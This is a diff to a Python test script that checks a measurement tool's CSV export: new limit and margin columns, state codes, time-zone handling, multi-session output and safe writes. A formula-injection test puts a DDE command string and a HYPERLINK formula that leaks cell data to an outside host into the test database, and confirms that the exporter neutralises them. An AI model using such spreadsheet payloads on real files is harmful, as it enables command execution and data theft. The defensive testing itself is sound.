@@ -3,7 +3,9 @@
 subcommand checked with tools that are not the library (csv, sqlite3, html.parser, json).
 Runs on SQLite always and on PostgreSQL when MDA_TEST_PG_URL/USER/PASSWORD are set.
 Usage: check_mda.py CMAKE BUILD_DIR DEMO WORK_DIR TOOL_NAME"""
+import base64
 import csv
+import hashlib
 import html.parser
 import io
 import json
@@ -20,7 +22,9 @@ shutil.rmtree(work, ignore_errors=True)
 os.makedirs(work)
 SCANS, CHANNELS = 8, 12
 HEADER = ["session_id", "scan_id", "scan_time", "channel_id", "channel_name", "item_id",
-          "item_name", "value", "unit", "stored_state", "result", "text"]
+          "item_name", "value", "unit", "stored_state", "result", "text", "value_code",
+          "compare_type", "limit_low", "limit_high", "limit_unit", "limit_offset", "margin",
+          "channel_standard", "channel_frequency_hz"]
 failures, checks = [], []
 
 
@@ -139,7 +143,7 @@ def session_checks(label, common, session, stored, env, db_file=None):
     check(table[0] == HEADER, tag + "csv: header line")
     body = table[1:]
     check(len(body) == stored, tag + "csv: one row per stored value (%d of %d)" % (len(body), stored))
-    check(all(len(row) == len(HEADER) for row in body), tag + "csv: every row has 12 fields")
+    check(all(len(row) == len(HEADER) for row in body), tag + "csv: every row has every field")
     mem = sqlite3.connect(":memory:")
     mem.execute("create table v (%s)" % ",".join(HEADER))
     mem.executemany("insert into v values (%s)" % ",".join("?" * len(HEADER)), body)
@@ -153,8 +157,9 @@ def session_checks(label, common, session, stored, env, db_file=None):
         stored_rows = src.execute("select id, scan_id, channel_id, measurement_item, value from "
                                   "measurement where session_id = ? order by scan_id, channel_id, id",
                                   (session,)).fetchall()
-        csv_rows = [(int(r[1]), int(r[3]), int(r[5]), (r[7] + " " + r[8]) if r[8] else r[7])
-                    for r in body]
+        # A state item's value is its word; the stored code has a column of its own.
+        csv_rows = [(int(r[1]), int(r[3]), int(r[5]),
+                     r[12] or ((r[7] + " " + r[8]) if r[8] else r[7])) for r in body]
         check(csv_rows == [(s, c, i, v or "") for _, s, c, i, v in stored_rows],
               tag + "csv: scan, channel, item and value as stored, in scan-channel order")
     results = dict(mem.execute("select result, count(*) from v group by result").fetchall())
@@ -530,6 +535,276 @@ if url and user and password:
           len(r.stderr.strip().splitlines()) == 1, "a wrong password exits 2 and is never shown")
 else:
     print("skipped PostgreSQL: MDA_TEST_PG_URL/USER/PASSWORD not set")
+
+# ------------------------------------------------------------------- CSV for analysts
+def read_csv(path):
+    with open(path, newline="", encoding="utf-8") as f:
+        return [dict(zip(HEADER, row)) for row in list(csv.reader(f))[1:]]
+
+
+def copy_db(name):
+    path = os.path.join(work, name)
+    shutil.copy(db_file, path)
+    con = sqlite3.connect(path)
+    con.execute("pragma foreign_keys=off")
+    return path, con
+
+
+analyst = read_csv(os.path.join(work, "sqlite.csv"))
+
+# Formula guard: texts a spreadsheet would evaluate get an apostrophe, numbers stay numbers.
+guard_db, con = copy_db("formulas.sqlite")
+error_id = con.execute("select min(id) from measurement where session_id = ? and error_description "
+                       "!= ''", (session,)).fetchone()[0]
+con.execute("update measurement set error_description = ? where id = ?",
+            ("+cmd|' /C calc'!A0", error_id))
+texts = ["=1+1", "-2+3", "@SUM(A1)", "\t=2", "\r=3", "+", "-", "plain", "-12.5", "+4", "1e-5"]
+for n, text in enumerate(texts):
+    # Item 0 "Status" is a text item: its value is written whole.
+    con.execute("insert into measurement (session_id, scan_id, channel_id, measurement_item, "
+                "state, value) values (?, 1, ?, 0, 2, ?)", (session, n % CHANNELS, text))
+# Channel names as the session registered them: its copy of the channel table, edited.
+formula_names = ['=HYPERLINK("http://x.invalid/?"&A1,"Click")', "@SUM(A1)", "-cmd", "+1-1"]
+(copy_id, encoded) = con.execute("select id, file from exported_channel_settings order by id "
+                                 "limit 1").fetchone()
+formula_doc = json.loads(base64.b64decode(encoded))
+for row, name in zip(formula_doc["ChannelTableData"][1:], formula_names):
+    for item in row["ChannelItemData"]:
+        if item["Id"] == "Channel Name":
+            item["Value"] = name
+edited = json.dumps(formula_doc, indent=4).encode()
+con.execute("update exported_channel_settings set file = ?, hash = ? where id = ?",
+            (base64.b64encode(edited).decode(), hashlib.md5(edited).hexdigest(), copy_id))
+con.commit()
+con.close()
+out_guard = os.path.join(work, "formulas.csv")
+r = run(["csv", str(session), "--database", guard_db, "-o", out_guard])
+guarded = read_csv(out_guard)
+check(r.returncode == 0 and len(guarded) == stored + len(texts), "csv of the formula database")
+names = {x["channel_name"] for x in guarded}
+for name in formula_names:
+    check("'" + name in names and name not in names,
+          "a channel name %r is written with a leading apostrophe" % name)
+check(b'"\'=HYPERLINK(""http://x.invalid/?""&A1,""Click"")"' in open(out_guard, "rb").read(),
+      "the guarded name is quoted with its quotes doubled after the apostrophe")
+check(any(x["text"] == "'+cmd|' /C calc'!A0" for x in guarded),
+      "an error text that begins with + is guarded")
+status_values = [x["value"] for x in guarded if x["item_id"] == "0"]
+expected_values = ["'=1+1", "'-2+3", "'@SUM(A1)", "'\t=2", "'\r=3", "'+", "'-", "plain", "-12.5",
+                   "+4", "1e-5"]
+check(status_values == expected_values,
+      "text item values: formulas guarded, plain numbers and plain text as stored (%r)"
+      % status_values)
+numeric = [x for x in guarded if x["item_id"] != "0" and x["value"]]
+negative = [x for x in numeric if x["value"].startswith("-")]
+check(negative and all(re.fullmatch(r"-[0-9.]+(e[-+][0-9]+)?", x["value"]) for x in negative) and
+      not any(x["value"].startswith("'") for x in numeric),
+      "negative measured numbers stay numbers (%d of them)" % len(negative))
+margins = [x["margin"] for x in guarded if x["margin"].startswith("-")]
+check(margins and not any(v.startswith("'") for x in guarded for k, v in x.items()
+                          if k in ("margin", "limit_low", "limit_high", "limit_offset")),
+      "negative margins and limits stay numbers")
+
+# The limits each value was judged against, as the limit file has them.
+limit_doc = json.load(open(os.path.join(rec, "config", "demo.limit"), encoding="utf-8"))
+limit_of = {item["ID"]: item for item in limit_doc["ComparativeValues"]}
+compare_words = {0: "Not Used", 1: "Equal", 2: "Not Equal", 3: "Between", 4: "Lower", 5: "Higher"}
+offsets, standards, frequencies = {}, {}, {}
+scale = {"Hz": 1, "kHz": 1e3, "MHz": 1e6, "GHz": 1e9}
+for row in json.load(open(table_file, encoding="utf-8"))["ChannelTableData"][1:]:
+    cells = {item["Id"]: item["Value"] for item in row["ChannelItemData"]}
+    name = cells["Channel Name"]
+    offsets[name] = float(cells["Power Limit Offset"].split()[0])
+    # The demo writes each channel's standard as its description.
+    standards[name] = cells["Description"]
+    number, unit = cells["Center / Vision Carrier Frequency"].split()
+    frequencies[name] = float(number) * scale[unit]
+compared = mismatched = 0
+for x in analyst:
+    item = limit_of.get(int(x["item_id"]))
+    if not item:
+        continue
+    if x["compare_type"] != compare_words[item["CompareType"]]:
+        mismatched += 1
+    elif item["CompareType"] == 3 and x["limit_unit"] == item["LowValue"].split()[-1] == \
+            item["HighValue"].split()[-1]:
+        offset = offsets[x["channel_name"]] if x["item_name"] == "Power" else 0
+        compared += 1
+        if (abs(float(x["limit_low"]) - float(item["LowValue"].split()[0]) - offset) > 1e-6 or
+                abs(float(x["limit_high"]) - float(item["HighValue"].split()[0]) - offset) > 1e-6):
+            mismatched += 1
+    elif item["CompareType"] == 1 and x["limit_low"] != item["LowValue"]:
+        mismatched += 1
+check(compared > stored // 3 and mismatched == 0,
+      "compare type and limits agree with the limit file (%d rows, %d differ)"
+      % (compared, mismatched))
+power = [x for x in analyst if x["item_name"] == "Power"]
+check(power and all(x["limit_offset"] and float(x["limit_offset"]) == offsets[x["channel_name"]]
+                   for x in power) and
+      {x["limit_low"] for x in power if offsets[x["channel_name"]] == -6} == {"-21"} and
+      {x["limit_high"] for x in power if offsets[x["channel_name"]] == 3} == {"50"},
+      "Power carries its channel's limit offset, its limits shifted by it")
+check(all(x["limit_offset"] == "" for x in analyst if x["item_name"] != "Power"),
+      "no other item has a limit offset")
+
+
+def margin_of(x):
+    low = float(x["limit_low"]) if x["limit_low"] else None
+    high = float(x["limit_high"]) if x["limit_high"] else None
+    # The judge compares the value with two decimals.
+    value = float("%.2f" % float(x["value"]))
+    sides = ([value - low] if low is not None else []) + ([high - value] if high is not None else [])
+    return min(sides)
+
+
+ranged = [x for x in analyst if x["result"] in ("within", "violation") and
+          x["compare_type"] in ("Between", "Lower", "Higher") and x["limit_unit"] == x["unit"] and
+          x["unit"]]
+wrong_sign = [x for x in ranged
+              if not x["margin"] or (x["result"] == "within") != (float(x["margin"]) >= 0)]
+off = [x for x in ranged if x["margin"] and
+       abs(float(x["margin"]) - margin_of(x)) > 0.0101 + 1e-5 * abs(margin_of(x))]
+check(len(ranged) > stored // 2 and not wrong_sign and not off,
+      "every judged number has the margin to its nearer limit, negative exactly for violations "
+      "(%d rows, %d with the wrong sign, %d off)" % (len(ranged), len(wrong_sign), len(off)))
+check(all(x["margin"] == "" for x in analyst if x["result"] in ("error", "not judged")),
+      "values not judged have no margin")
+check(all(x["channel_standard"] == standards[x["channel_name"]] and
+          float(x["channel_frequency_hz"]) == frequencies[x["channel_name"]] for x in analyst),
+      "every row carries its channel's standard and frequency in Hz")
+
+# State items in words, the stored code beside them.
+state_words = {"Demod Lock": ["Locked", "Unlocked"], "MPEG Lock": ["Locked", "Unlocked"],
+               "Internal Reference": ["Locked", "Unlocked"], "Vision Detector": ["Locked", "Unlocked"],
+               "Preamplifier": ["On", "Off"], "Preselector": ["On", "Off"],
+               "FM1 Sound Carrier": ["Present", "Missing"]}
+states_db, con = copy_db("states.sqlite")
+unlock_id = con.execute("select min(id) from measurement where session_id = ? and "
+                        "measurement_item = 12 and state = 2", (session,)).fetchone()[0]
+con.execute("update measurement set value = '1' where id = ?", (unlock_id,))
+con.commit()
+con.close()
+out_states = os.path.join(work, "states.csv")
+r = run(["csv", str(session), "--database", states_db, "-o", out_states])
+state_rows = [x for x in read_csv(out_states) if x["item_name"] in state_words and x["value_code"]]
+check(r.returncode == 0 and {x["item_name"] for x in state_rows} == set(state_words) and
+      all(x["value"] == state_words[x["item_name"]][int(x["value_code"])] for x in state_rows),
+      "state items read as words with their stored code (%d rows)" % len(state_rows))
+unlocked = [x for x in state_rows if x["value"] == "Unlocked"]
+check(len(unlocked) >= 1 and unlocked[0]["item_name"] == "Demod Lock" and
+      unlocked[0]["value_code"] == "1" and unlocked[0]["result"] == "violation" and
+      unlocked[0]["text"] == "Demod Lock is not Locked" and unlocked[0]["limit_low"] == "Locked",
+      "an unlocked demodulator: Unlocked, code 1, a violation of the expected Locked")
+check(all(x["value_code"] == "" for x in analyst if x["item_name"] not in state_words and
+          not x["item_name"].endswith(("Lock", "Carrier"))),
+      "other items have no state code")
+
+# Scan times in ISO 8601 with the offset of the local time zone they were recorded in.
+times_db, con = copy_db("times.sqlite")
+con.execute("update scan set date_time = ? where session_id = ? and id = 1",
+            ("2026-07-01 12:00:00", session))
+con.execute("update scan set date_time = ? where session_id = ? and id = 2",
+            ("2026-01-15 08:30:00", session))
+con.execute("update scan set date_time = ? where session_id = ? and id = 3",
+            ("2026-03-29 02:30:00", session))
+con.execute("update scan set date_time = ? where session_id = ? and id = 4", ("=1+1", session))
+con.commit()
+con.close()
+central = "CET-1CEST,M3.5.0,M10.5.0/3"
+time_table = [
+    ("UTC0", 1, "2026-07-01T12:00:00+00:00"),
+    (central, 1, "2026-07-01T12:00:00+02:00"),
+    (central, 2, "2026-01-15T08:30:00+01:00"),
+    ("NST+3:30", 2, "2026-01-15T08:30:00-03:30"),
+    (central, 3, "2026-03-29 02:30:00"),  # skipped at the start of summer time: as stored
+    ("UTC0", 4, "'=1+1"),
+]
+by_zone = {}
+for zone, scan, expected in time_table:
+    if zone not in by_zone:
+        out_times = os.path.join(work, "times.csv")
+        r = run(["csv", str(session), "--database", times_db, "-o", out_times],
+                env=dict(base_env, TZ=zone))
+        by_zone[zone] = {int(x["scan_id"]): x["scan_time"] for x in read_csv(out_times)}
+    check(by_zone[zone].get(scan) == expected,
+          "scan time %s read in the zone %s: %r" % (scan, zone, by_zone[zone].get(scan)))
+
+# Several sessions into one file, the header once; standard output; --all.
+multi_db = os.path.join(work, "multi.sqlite")
+shutil.copy(db_file, multi_db)
+second, second_stored = record(os.path.join(work, "rec-second"), ["--database", multi_db])
+one = open(os.path.join(work, "sqlite.csv"), "rb").read()
+r = run(["csv", str(second), "--database", multi_db, "-o", os.path.join(work, "second.csv")])
+two = open(os.path.join(work, "second.csv"), "rb").read()
+header_line = one.split(b"\r\n", 1)[0] + b"\r\n"
+out_both = os.path.join(work, "both.csv")
+r = run(["csv", str(second), str(session), "--database", multi_db, "-o", out_both])
+check(r.returncode == 0 and open(out_both, "rb").read() == two + one[len(header_line):],
+      "two sessions in the order named, the header once")
+r = run(["csv", "--all", "--database", multi_db, "-o", os.path.join(work, "all.csv")])
+every = open(os.path.join(work, "all.csv"), "rb").read()
+check(r.returncode == 0 and every == one + two[len(header_line):] and
+      every.count(b"session_id") == 1, "--all writes every session, the header once")
+r = subprocess.run([mda, "csv", "--all", "--database", multi_db, "-o", "-"], env=base_env,
+                   capture_output=True, timeout=600)
+check(r.returncode == 0 and r.stdout == every and r.stderr == b"",
+      "-o - writes the same bytes to standard output")
+for args, what in [(["--all", str(session)], "--all with a session"),
+                   ([str(session), "999"], "a missing session among several"),
+                   (["--classic", str(session), str(second)], "--classic with two sessions")]:
+    target = os.path.join(work, "refused.csv")
+    r = run(["csv"] + args + ["--database", multi_db, "-o", target])
+    check(r.returncode == 2 and len(r.stderr.strip().splitlines()) == 1 and
+          not os.path.exists(target), "%s exits 2 and writes nothing (%s)" % (what, r.stderr.strip()))
+
+# Written whole or not at all.
+def folder_and_target(name):
+    folder = os.path.join(work, name)
+    os.makedirs(folder)
+    target = os.path.join(folder, "session.csv")
+    with open(target, "w") as f:
+        f.write("earlier\n")
+    return folder, target
+
+
+folder, target = folder_and_target("bounded")
+
+
+def bounded():
+    import resource
+    import signal
+    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
+    resource.setrlimit(resource.RLIMIT_FSIZE, (100000, 100000))
+
+
+r = subprocess.run([mda, "csv", str(session), "--database", db_file, "-o", target], env=base_env,
+                   capture_output=True, text=True, timeout=600, preexec_fn=bounded)
+check(r.returncode == 2 and "File too large" in r.stderr and
+      open(target).read() == "earlier\n" and os.listdir(folder) == ["session.csv"],
+      "a write that fails half-way keeps the earlier file and leaves no partial one (%s)"
+      % r.stderr.strip())
+folder, target = folder_and_target("damaged-read")
+r = run(["csv", str(session), "--database", damaged, "-o", target])
+fresh = os.path.join(folder, "new.csv")
+r2 = run(["csv", str(session), "--database", damaged, "-o", fresh])
+check(r.returncode == 2 and r2.returncode == 2 and "malformed" in r.stderr and
+      open(target).read() == "earlier\n" and os.listdir(folder) == ["session.csv"],
+      "a read that fails half-way keeps the earlier file and creates none")
+if os.path.exists("/dev/full"):
+    r = run(["csv", str(session), "--database", db_file, "-o", "/dev/full"])
+    check(r.returncode == 2 and "No space left on device" in r.stderr,
+          "-o /dev/full exits 2 and names the cause (%s)" % r.stderr.strip())
+    with open("/dev/full", "w") as full:
+        r = subprocess.run([mda, "csv", str(session), "--database", db_file, "-o", "-"],
+                           env=base_env, stdout=full, stderr=subprocess.PIPE, text=True, timeout=600)
+    check(r.returncode == 2 and "standard output" in r.stderr and "No space" in r.stderr,
+          "a full standard output exits 2 and names it (%s)" % r.stderr.strip())
+before_db = digest(db_file)
+r = run(["csv", str(session), "--database", db_file, "-o", db_file])
+check(r.returncode == 2 and "is the database" in r.stderr and digest(db_file) == before_db,
+      "the CSV is never written over the database it reads")
+r = run(["csv", str(session), "--database", db_file, "-o", work])
+check(r.returncode == 2 and "is a folder" in r.stderr, "a folder as the target exits 2")
 
 print("%d passed, %d failed" % (len(checks) - len(failures), len(failures)))
 sys.exit(1 if failures else 0)
